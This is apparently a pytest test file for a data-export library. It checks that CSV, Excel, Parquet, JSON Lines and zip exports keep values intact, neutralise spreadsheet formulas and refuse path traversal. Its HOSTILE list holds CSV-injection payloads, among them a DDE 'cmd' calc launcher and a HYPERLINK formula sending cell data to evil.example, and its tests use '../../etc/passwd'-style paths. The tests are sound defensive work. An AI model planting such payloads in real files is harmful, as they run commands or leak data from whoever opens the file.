"""Exports re-read by other people's libraries: every value, every odd sidecar, no formula, nothing left behind."""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import tracemalloc
import zipfile
from collections import Counter
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from opstore import Store
from opstore.analytics.columns import COLUMNS, NAMES
from opstore.analytics.frame_row import Row, row_of
from opstore.errors import InvalidOperationId, InvalidQuery, InvalidRequest, StorageError
from opstore.exports import FORMATS, Export, Exports, excel, pour, work, write
from opstore.exports.cells import csv_line, guarded
from opstore.exports.column_titles import heads
from opstore.index import Index
from opstore.storage.operation import SPECIFIED
from tests import index_samples
from tests.samples import EDIT, ID, JPG, LATER, MOMENT, PNG, WEBP, plant

#: What spreadsheets take for the beginning of a formula, whole attacks among them.
HOSTILE = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''",
    "http://evil.example/",
    "mailto:x@evil.example",
    "{=1+1}",
    "<r><t>not asked for</t></r>",
    "<r> a & b </r>",
    "1e5",
    "0123",
    "TRUE",
    "nan",
    'quo"te, and; semicolon',
    "two\nlines\r\nthree",
    "\u2028\u2029\x85 ends",
    "control \x00\x01\x1b[31m _x0041_",
    "é 海 🦊",
    "x" * 40_000,
    "x" + "🦊" * 20_000,
)


def made(root: Path) -> Exports:
    store = Store(root)
    index = Index(store)
    index.update()
    return Exports(store, index, clock=lambda: MOMENT)


def exported(exports: Exports, name: str, **asked: Any) -> tuple[bytes, Export]:
    export = exports.prepare(name, **asked)
    file = io.BytesIO()
    assert pour(export, file) == len(file.getvalue())
    return file.getvalue(), export


def rows_of(store: Store) -> list[Row]:
    return [row_of(sidecar, sidecar["operationId"]) for sidecar in store.list_operations(10_000)]


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Exports:
    """Two hundred sidecars with every oddity, hostile texts in every place that takes text, and one that cannot be read."""
    root = tmp_path_factory.mktemp("odd") / "data"
    store = index_samples.folder_of(root, 160, 11)
    for number, text in enumerate(HOSTILE):
        operation_id = f"20251104{number:06}_0000{number:04x}"
        more = {"operationType": text, "error": text, "model": text, "batchId": text, "provider": text}
        annotations = {"tags": [text, "b, c"], "note": text, "rating": 5, "favorite": True}
        sidecar = {"operationId": operation_id, "prompt": text, "success": False, "annotations": annotations, **more}
        index_samples.plant(store, sidecar | {"parameters": {text[:50]: text[:50]}})
    index_samples.plant(store, b"{", "20251105000000_00000000")
    return made(root)


@pytest.fixture
def small(tmp_path: Path) -> Exports:
    """Three operations with media, one of which is gone."""
    store = Store(tmp_path / "data", clock=lambda: MOMENT)
    store.initialize_storage()
    store.save_complete_operation(EDIT)
    store.save(LATER, {"operationType": "text_to_image", "prompt": "=1+1", "error": "no", "success": False})
    store.save("20251103143024_abc123e0", {"operationType": "text_to_image", "prompt": "gone"}, outputs=[PNG])
    (store.operations.path / "20251103143024_abc123e0_out.png").unlink()
    return made(store.root)


# -- CSV -----------------------------------------------------------------------------------------------------------------


def test_csv_says_exactly_what_the_rows_say(odd: Exports) -> None:
    data, export = exported(odd, "csv")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    rows = rows_of(odd._store)
    assert lines[0] == list(NAMES) and export.written == len(lines) - 1 == len(rows) >= 180
    assert lines[1:] == [csv_line(row) for row in rows]
    prompts = {line[NAMES.index("prompt")] for line in lines[1:]}
    assert {text if not text.startswith("'") else text[1:] for text in prompts} >= set(HOSTILE), "one apostrophe off gives all"
    assert export.left_out == [("20251105000000_00000000", export.left_out[0][1])] and "JSON" in export.left_out[0][1]


def test_an_export_waits_until_the_index_has_seen_all(tmp_path: Path) -> None:
    store = Store(tmp_path)
    store.initialize_storage()
    for operation_id in (ID, LATER):
        store.save(operation_id, {"operationType": "text_to_image", "prompt": "a sea"}, outputs=[PNG])
    (tmp_path / "operations" / "20251103143025_abc123de.json").write_bytes(b"{")
    for query, left_out in (("", 1), ("sea", 0)):
        data, export = exported(Exports(store, Index(store)), "csv", query=query)
        assert len(data.splitlines()) == 3 and export.total == 2 and len(export.left_out) == left_out
        for path in store.cache.glob("index.*"):
            path.unlink()


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_csv_begins_as_a_formula(text: str) -> None:
    cell = guarded(text)
    assert cell.strip(" ")[:1] not in tuple("=+-@\t\r\n＝") and (cell == text or cell[1:] == text)
    assert (guarded(cell) != cell) == cell.startswith("'"), "an apostrophe of the text's own is told from ours"


def test_csv_for_excel_is_the_same_behind_a_mark(odd: Exports) -> None:
    plain_csv, marked = (exported(odd, name)[0] for name in ("csv", "csv-excel"))
    assert marked == b"\xef\xbb\xbf" + plain_csv and plain_csv[:1] != b"\xef"
    assert odd.prepare("csv-excel").filename.endswith(".csv")


def test_csv_for_french_excel_says_the_same_with_semicolons_and_decimal_commas(odd: Exports) -> None:
    plain, french = (exported(odd, name)[0].decode("utf-8-sig") for name in ("csv", "csv-excel-fr"))
    assert exported(odd, "csv-excel-fr")[0].startswith(b"\xef\xbb\xbf")
    one, other = (list(csv.reader(io.StringIO(text, newline=""), delimiter=by)) for text, by in ((plain, ","), (french, ";")))
    assert len(one[0]) == len(set(other[0])) and len(one) == len(other) > 2
    assert other[0][:5] == ["Identifiant", "Date (UTC)", "Type d’opération", "Statut", "Réussite"]
    changed = Counter[str]()
    for said, told in zip(one[1:], other[1:], strict=True):
        for column, cell, again in zip(COLUMNS, said, told, strict=True):
            assert again == (_FRENCH[column.kind](cell) if cell and column.kind in _FRENCH else cell)
            changed[column.kind] += cell != again
    assert set(changed + Counter()) == set(_FRENCH)


_FRENCH: dict[str, Callable[[str], str]] = {
    "number": lambda cell: cell.replace(".", ","),
    "flag": {"true": "vrai", "false": "faux"}.__getitem__,
    "moment": lambda cell: "{2}/{1}/{0} {3}".format(*cell[:10].split("-"), cell[11:19]),
}


def test_csv_reads_back_in_pandas(odd: Exports) -> None:
    data, _export = exported(odd, "csv")
    frame = pd.read_csv(io.BytesIO(data), parse_dates=["timestamp"], keep_default_na=False, na_values=[""], dtype={"prompt": str})
    rows = rows_of(odd._store)
    for name in ("cost", "elapsed_seconds", "rating", "input_count", "confidence"):
        wanted = [row[NAMES.index(name)] for row in rows]
        assert [None if pd.isna(value) else value for value in frame[name]] == wanted, name
    assert list(frame["operation_id"]) == [row[0] for row in rows]
    assert [json.loads(value) for value in frame["tags"]] == [list(row[NAMES.index("tags")]) for row in rows]


# -- Excel ---------------------------------------------------------------------------------------------------------------


def sheets(data: bytes) -> Mapping[str, Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: sheet for sheet in book.worksheets}


def test_excel_has_types_and_no_formula(odd: Exports) -> None:
    data, _export = exported(odd, "xlsx")
    found = sheets(data)
    sheet, rows = found["Operations"], rows_of(odd._store)
    head, *lines = list(sheet.iter_rows())
    assert [cell.value for cell in head] == list(NAMES) and len(lines) == len(rows)
    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == f"A1:{head[-1].column_letter}{len(rows) + 1}"
    kinds = {"text": "s", "category": "s", "moment": "d", "flag": "b", "number": "n", "texts": "s"}
    for line, row in zip(lines, rows, strict=True):
        for cell, column, value in zip(line, COLUMNS, row, strict=False):
            assert cell.data_type != "f" and cell.hyperlink is None
            if value is None:
                assert cell.value is None
            elif column.kind in kinds and value not in ("", ()):
                assert cell.data_type == kinds[column.kind], (column.name, value)
            if column.kind == "number" and value is not None:
                assert cell.value == pytest.approx(value, rel=1e-15)
            if column.name == "prompt" and isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t")):
                assert cell.quotePrefix, "it stays a text when somebody edits the cell"
    prompts = {line[NAMES.index("prompt")].value for line in lines}
    plain = {text for text in HOSTILE if text.isprintable() and len(text) < 1_000}
    # Excel counts units of UTF-16, and calls a file damaged that has more of them in a cell than it takes.
    assert prompts >= {*plain, f"{'x' * 32_766}…", f"x{'🦊' * 16_382}…"}
    assert "left out" in [cell.value for cell in found["About"]["A"]] and "prompt" in [cell.value for cell in found["About"]["A"]]


def test_excel_raw_xml_has_no_formula_and_no_link(odd: Exports) -> None:
    data, _export = exported(odd, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            text = book.read(name)
            assert b"<f>" not in text and b"<f " not in text and b"<hyperlink" not in text and b"oleObject" not in text, name
            assert b'TargetMode="External"' not in text and "externalLink" not in name


def test_excel_times_are_times(small: Exports) -> None:
    data, _export = exported(small, "xlsx", query=f"id:{ID}")
    sheet = sheets(data)["Operations"]
    wanted = MOMENT.replace(tzinfo=None)
    assert abs((sheet.cell(2, NAMES.index("timestamp") + 1).value - wanted).total_seconds()) < 0.01
    assert sheet.cell(2, NAMES.index("input_count") + 1).value == 2 and sheet.cell(2, NAMES.index("success") + 1).value is True


def test_excel_goes_on_in_another_sheet(odd: Exports, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel, "SHEET_ROWS", 101)
    data, export = exported(odd, "xlsx")
    found = sheets(data)
    assert list(found) == ["Operations", "Operations 2", "About"]
    ids = [row[0].value for name in list(found)[:2] for row in found[name].iter_rows(min_row=2)]
    assert len(ids) == export.written and ids == [row[0] for row in rows_of(odd._store)]
    assert found["Operations"].max_row == 101 and found["Operations 2"].freeze_panes == "B2"


def test_excel_with_pictures(small: Exports, monkeypatch: pytest.MonkeyPatch) -> None:
    data, _export = exported(small, "xlsx", thumbnails=True)
    sheet = sheets(data)["Operations"]
    assert sheet.cell(1, 1).value == "picture" and sheet.cell(1, 2).value == "operation_id"
    assert [image.anchor._from.row for image in sheet._images] == [3], "the one operation whose result is there"
    assert sheet._images[0].format == "jpeg"
    monkeypatch.setattr(excel, "MOST_PICTURES", 0)
    with pytest.raises(InvalidRequest, match="pictures"):
        exported(small, "xlsx", thumbnails=True)
    assert list((small._store.cache / "exports").iterdir()) == []


# -- JSON Lines and Parquet ----------------------------------------------------------------------------------------------


def test_json_lines_are_the_sidecars(odd: Exports) -> None:
    data, _export = exported(odd, "jsonl")
    wanted = odd._store.list_operations(10_000)
    assert [json.loads(line) for line in data.decode().splitlines()] == wanted, "also to readers that know more line ends"
    assert [list(json.loads(line)) for line in data.split(b"\n")[:-1]] == [list(sidecar) for sidecar in wanted]


def test_parquet_has_the_types_and_the_values(odd: Exports, monkeypatch: pytest.MonkeyPatch) -> None:
    from opstore.exports import parquet

    monkeypatch.setattr(parquet, "GROUP", 50)
    data, _export = exported(odd, "parquet")
    frame = pd.read_parquet(io.BytesIO(data))
    assert {name: str(frame[name].dtype) for name in NAMES if BY_KIND[name] not in ("texts", "moment")} == {
        column.name: column.dtype for column in COLUMNS if column.kind not in ("texts", "moment")
    }
    rows = rows_of(odd._store)
    for name in NAMES:
        wanted = [list(value) if isinstance(value := row[NAMES.index(name)], tuple) else value for row in rows]
        assert [list(v) if BY_KIND[name] == "texts" else None if pd.isna(v) else v for v in frame[name]] == wanted, name


BY_KIND = {column.name: column.kind for column in COLUMNS}


# -- zip -----------------------------------------------------------------------------------------------------------------


def test_zip_is_a_data_folder_again(small: Exports, tmp_path: Path) -> None:
    data, export = exported(small, "zip", originals=True)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        members = {info.filename: info for info in archive.infolist()}
        for name, info in members.items():
            media = not name.endswith((".json", ".csv"))
            assert info.compress_type == (zipfile.ZIP_STORED if media else zipfile.ZIP_DEFLATED), name
        archive.extractall(tmp_path / "out")
    assert set(members) == {
        "metadata.csv",
        "left_out.csv",
        *(f"operations/{ID}{end}" for end in ("_in_1.jpg", "_in_2.png", "_out.webp", ".json")),
        f"operations/{LATER}.json",
        "operations/20251103143024_abc123e0.json",
    }
    assert members[f"operations/{ID}_out.webp"].date_time[:3] == (2025, 11, 3)
    again = Store(tmp_path / "out")
    assert again.list_operations() == small._store.list_operations()
    assert again.read_file(f"{ID}_out.webp") == WEBP and again.read_file(f"{ID}_in_1.jpg") == JPG
    assert (tmp_path / "out/metadata.csv").read_bytes() == exported(small, "csv")[0]
    assert [name for name, _reason in export.left_out] == ["20251103143024_abc123e0_out.png"]
    assert "20251103143024_abc123e0_out.png" in (tmp_path / "out/left_out.csv").read_text()


def test_zip_takes_no_name_from_a_sidecar_that_is_not_its_own(tmp_path: Path) -> None:
    store = Store(tmp_path / "data")
    secret = tmp_path / "secret.txt"
    secret.write_text("what nobody may have")
    bad = ["../../secret.txt", str(secret), "20251103143023_abc123df_out.png", f"{ID}_out.png"]
    sidecar = {"operationId": ID, "success": True, "outputFile": "../../secret.txt", "inputFiles": bad}
    plant(store, f"{ID}.json", json.dumps(sidecar).encode())
    (store.operations.path / f"{ID}_out.png").symlink_to(secret)
    data, _export = exported(made(store.root), "zip")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert set(archive.namelist()) == {f"operations/{ID}.json", "metadata.csv", "left_out.csv"}
        assert not any(secret.read_bytes() in archive.read(name) for name in archive.namelist())


# -- memory --------------------------------------------------------------------------------------------------------------


@pytest.mark.long
@pytest.mark.parametrize("name", FORMATS)
def test_memory_does_not_grow_with_what_is_exported(tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of 1,000 operations as of 200: what a zip's directory holds of each, 1 kB, would be seen, and any row that is kept."""
    monkeypatch.setattr("opstore.exports.parquet.GROUP", 250)
    for module in ("work", "text_formats", "excel", "archive"):
        monkeypatch.setattr(f"opstore.exports.{module}.PART", 16_384)
    store = Store(tmp_path / "data")
    store.initialize_storage()

    def peak(count: int) -> int:
        told = ({"operationId": f"20251103{n:06}_abc12345", "prompt": f"a {n}th sea", "success": False} for n in range(count))
        parts = FORMATS[name].parts(work.Work(store, ((sidecar, json.dumps(sidecar).encode()) for sidecar in told)))
        tracemalloc.start()
        try:
            assert sum(map(len, parts)) > 10 * count
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak(10)  # what is loaded once
    assert peak(1_000) - peak(200) < 300_000


# -- what is asked for ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", FORMATS)
def test_nothing_is_an_export_too(tmp_path: Path, name: str) -> None:
    store = Store(tmp_path / "data")
    store.initialize_storage()
    data, export = exported(made(store.root), name)
    assert export.written == 0 and export.total == 0 and export.filename == f"opstore-2025-11-03.{FORMATS[name].extension}"
    if name in ("csv", "csv-excel", "csv-excel-fr"):
        assert data.decode("utf-8-sig").strip() == (";".join(heads("fr")) if name == "csv-excel-fr" else ",".join(NAMES))
    elif name == "xlsx":
        assert list(sheets(data)) == ["Operations", "About"]
    elif name == "jsonl":
        assert data == b""
    elif name == "parquet":
        assert len(pd.read_parquet(io.BytesIO(data))) == 0
    else:
        assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["metadata.csv"]


def test_a_search_or_a_selection_in_its_order(odd: Exports, small: Exports) -> None:
    data, export = exported(odd, "csv", query="status:failed type:unknown", order="oldest")
    found = [line[0] for line in csv.reader(io.StringIO(data.decode()))][1:]
    assert found == [row.id for row in index_samples.all_rows(odd._index, "status:failed type:unknown", "oldest")]
    assert len(found) == export.total and 0 < len(found) < 180
    data, export = exported(small, "jsonl", ids=[LATER, ID, LATER, "20990101000000_00000000"])
    assert [json.loads(line)["operationId"] for line in data.splitlines()] == [LATER, ID]
    assert [name for name, _reason in export.left_out] == ["20990101000000_00000000"]


def test_what_cannot_be_asked_for(small: Exports) -> None:
    for error, asked in (
        (InvalidRequest, {"name": "pdf"}),
        (InvalidRequest, {"name": "csv", "query": "x", "ids": [ID]}),
        (InvalidRequest, {"name": "csv", "thumbnails": True}),
        (InvalidOperationId, {"name": "csv", "ids": ["../../etc/passwd"]}),
        (InvalidQuery, {"name": "csv", "query": "rating:x"}),
        (InvalidRequest, {"name": "csv", "order": "sideways"}),
    ):
        with pytest.raises(error):
            small.prepare(**asked)


# -- early ends ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", FORMATS)
def test_an_export_that_is_given_up_leaves_nothing(odd: Exports, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel, "_BEAT", 1)
    monkeypatch.setattr(work, "PART", 10)
    parts = odd.prepare(name).parts()
    with contextlib.closing(parts):
        next(parts)
    folder = odd._store.cache / "exports"
    assert not folder.exists() or list(folder.iterdir()) == []


def test_a_file_is_written_whole_or_not_at_all(small: Exports, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "out.csv"
    write(small.prepare("csv"), path)
    before = path.read_bytes()
    with pytest.raises(InvalidRequest, match="exists already"):
        write(small.prepare("csv"), path)
    for name in FORMATS:
        export = small.prepare(name)

        def failing(_done: Any, export: Export = export) -> Any:
            yield b"some"
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr(type(export), "parts", failing)
        with pytest.raises(StorageError, match="disk is full"):
            write(export, path, replace=True)
        monkeypatch.undo()
    assert path.read_bytes() == before and {item.name for item in tmp_path.iterdir()} == {"data", "out.csv"}


def test_a_full_disk_while_excel_is_made(odd: Exports, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_arguments: Any, **_options: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("xlsxwriter.workbook.Workbook._store_workbook", full)
    with pytest.raises(StorageError, match="disk is full"):
        exported(odd, "xlsx")
    assert list((odd._store.cache / "exports").iterdir()) == []


def test_what_a_killed_export_left_is_swept_away(small: Exports) -> None:
    import fcntl
    import os

    folder = small._store.cache / "exports"
    for name in ("left", "held"):
        (folder / name).mkdir(parents=True)
    held = os.open(folder / "held", os.O_RDONLY)
    fcntl.flock(held, fcntl.LOCK_EX)
    os.utime(folder / "held", (0, 0))  # the clock leapt, say: somebody is at work there all the same
    exported(small, "zip")
    assert [path.name for path in folder.iterdir()] == ["held"]
    os.close(held)


def test_progress_is_told(odd: Exports) -> None:
    seen: list[tuple[int, int | None]] = []
    export = odd.prepare("csv", report=lambda done, total: seen.append((done, total)))
    pour(export, io.BytesIO())
    assert seen[-1][0] == len(seen) >= export.written and {total for _done, total in seen} == {export.total}


def test_operations_of_the_specification_only(tmp_path: Path) -> None:
    """A sidecar of the original backend, 13 keys and no more: what it does not say is empty, not zero."""
    store = Store(tmp_path / "data")
    sidecar = dict.fromkeys(SPECIFIED) | {"operationId": ID, "operationType": "img_to_img", "success": True, "duration": 5}
    plant(store, f"{ID}.json", json.dumps(sidecar).encode())
    data, _export = exported(made(store.root), "csv")
    (row,) = csv.DictReader(io.StringIO(data.decode()))
    assert row["cost"] == row["elapsed_seconds"] == row["bytes_out"] == row["rating"] == "" and row["clip_seconds"] == "5.0"
    assert datetime.fromisoformat(row["timestamp"]) == datetime(2025, 11, 3, 14, 30, 22, tzinfo=UTC)


# -- the same as the frame -----------------------------------------------------------------------------------------------


def test_parquet_and_csv_are_the_frame(odd: Exports) -> None:
    from opstore.analytics import load_frame

    wanted = load_frame(odd._store)
    plain = wanted.assign(**{name: wanted[name].map(list) for name, kind in BY_KIND.items() if kind == "texts"})
    found = pd.read_parquet(io.BytesIO(exported(odd, "parquet")[0]))
    found = found.assign(**{name: found[name].map(list) for name, kind in BY_KIND.items() if kind == "texts"})
    for name in NAMES:  # categories may be counted in another order
        left, right = (frame[name].astype("str") if BY_KIND[name] == "category" else frame[name] for frame in (found, plain))
        pd.testing.assert_series_equal(left, right, check_dtype=BY_KIND[name] != "texts")
    text = list(csv.reader(io.StringIO(exported(odd, "csv")[0].decode(), newline="")))
    assert [line[0] for line in text[1:]] == list(wanted["operation_id"])


@pytest.mark.parametrize("front", ["\0", "\x0b", "\x0c", "\x1f", "\x7f", "\x85", "\u200b", "\u2028", "\u2003 \0"])
def test_what_stands_unseen_in_front_of_a_formula_hides_it_from_nobody(front: str) -> None:
    assert guarded(f"{front}=1+1") == f"'{front}=1+1" and guarded(f"{front}fox") == f"{front}fox"
